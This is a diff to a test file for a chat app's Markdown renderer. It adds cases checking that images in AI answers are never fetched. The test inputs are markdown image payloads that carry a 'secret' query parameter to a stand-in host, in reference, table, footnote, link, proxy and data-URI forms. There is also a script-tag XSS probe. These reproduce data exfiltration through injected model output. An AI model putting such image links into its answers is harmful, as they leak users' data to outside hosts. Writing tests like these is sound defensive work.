@@ -58,7 +58,7 @@ const EVERYTHING = {
   rehype: [...mathExtras.rehype, ...highlightExtras.rehype],
 }
 
-describe('what an answer may say', () => {
+describe('advisory 16 (CVE-2026-44568) VA-13 AI-7 what an answer may say', () => {
   it('is tried with at least 150 attacks, no two the same', () => {
     expect(new Set(MARKUP_ATTACKS).size).toBeGreaterThanOrEqual(150)
   })
@@ -92,6 +92,33 @@ describe('an answer', () => {
   it('shows HTML as it was written', () => {
     const { container } = render(<Markdown text="Use <b>bold</b> and <script>alert(1)</script>." />)
     expect(container.textContent).toBe('Use <b>bold</b> and <script>alert(1)</script>.')
+  })
+
+  it.each([
+    { because: 'by reference', text: 'See ![chart][1].\n\n[1]: https://a.example/x.png?d=secret' },
+    { because: 'by its own name', text: '![chart]\n\n[chart]: https://a.example/x.png?d=secret' },
+    { because: 'as a collapsed reference', text: '![chart][]\n\n[chart]: <https://a.example/x.png?d=secret>' },
+    {
+      because: 'inside a link',
+      text: '[![chart](https://a.example/x.png?d=secret)](https://a.example/x.png?d=secret)',
+    },
+    { because: 'in a table', text: '| a |\n|---|\n| ![chart](https://a.example/x.png?d=secret) |' },
+    { because: 'in a note', text: 'See[^1].\n\n[^1]: ![chart](https://a.example/x.png?d=secret)' },
+    { because: 'through our own server', text: '![chart](/api/proxy?url=https://a.example/x.png?d=secret)' },
+    { because: 'as data', text: '![chart](data:image/svg+xml,<svg/>)' },
+  ])('advisory 24 (CVE-2025-32711) AI-7 loads no picture that is given $because', ({ text }) => {
+    const { container } = render(
+      <>
+        <Markdown text={text} />
+        <Markdown text={text} extras={EVERYTHING} />
+      </>,
+    )
+    expect(container.textContent).toContain('chart')
+    expect(
+      container.querySelectorAll('img, picture, source, image, video, iframe, object, embed, link, style'),
+    ).toHaveLength(0)
+    expect(container.querySelectorAll('[src], [srcset], [poster], [style*="url"]')).toHaveLength(0)
+    expect(dangersIn(container)).toEqual([])
   })
 
   it('names an image and links to it, and never fetches it', () => {
